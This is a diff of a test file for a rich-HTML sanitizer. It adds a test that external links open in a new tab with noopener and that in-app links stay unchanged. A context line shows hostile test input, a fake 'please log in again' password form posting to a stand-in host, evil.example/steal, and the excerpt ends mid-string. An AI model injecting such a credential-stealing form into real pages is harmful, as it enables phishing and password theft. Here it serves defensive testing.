@@ -20,6 +20,17 @@ describe('rich HTML from the server', () => {
     expect(clean).toContain('<img src="https://example.com/a.png" alt="图">')
   })
 
+  it('opens links to other sites in a new tab without an opener, and keeps links to the app in the app', () => {
+    const clean = sanitizeRichHtml(
+      '<a href="https://example.com/x">外部</a><a href="/hometopup">充值</a><a href="/vpn" target="_blank">帮助</a>',
+    )
+    expect(clean).toContain(
+      '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer">外部</a>',
+    )
+    expect(clean).toContain('<a href="/hometopup">充值</a>')
+    expect(clean).toContain('<a href="/vpn" target="_blank" rel="noopener noreferrer">帮助</a>')
+  })
+
   it('strips an injected password form, scripts, handlers and javascript: links', () => {
     const html =
       '<p>请重新登录</p><form action="https://evil.example/steal"><input type="password" name="pw">' +
